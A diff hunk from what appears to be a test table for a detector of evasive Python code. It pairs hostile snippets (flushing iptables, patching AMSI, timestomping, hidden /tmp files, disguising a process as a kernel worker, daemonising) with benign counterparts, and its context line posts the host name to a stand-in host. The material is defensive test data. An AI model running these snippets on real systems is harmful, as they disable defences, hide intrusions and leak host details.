@@ -48,7 +48,7 @@ requests.post("http://host.example.invalid/in", json={"n": platform.node()})
     {"firewall-off", "", "import os\nos.system('iptables -F')\n", "import os\nos.system('iptables -L')\n"},
     {"amsi-patch", "", "name = b'AmsiScanBuffer'\n", "name = b'ScanBuffer'\n"},
     {"timestomp", "", "import os\nos.system('touch -r /bin/ls x')\n", "import os\nos.system('touch x')\n"},
-    {"hidden-location", "", "open('/tmp/.X11-unix/x', 'w')\n", "open('/tmp/x', 'w')\n"},
+    {"hidden-location", "", "open('/tmp/.X11-unix/.a', 'w')\n", "open('/tmp/x', 'w')\n"},
     {"masquerade", "", "import setproctitle\nsetproctitle.setproctitle('[kworker/0:0]')\n",
      "import setproctitle\nsetproctitle.setproctitle('gunicorn: worker')\n"},
     {"daemonise", "", "import os\nos.fork()\nos.setsid()\n", "import os\nos.getpid()\n"},
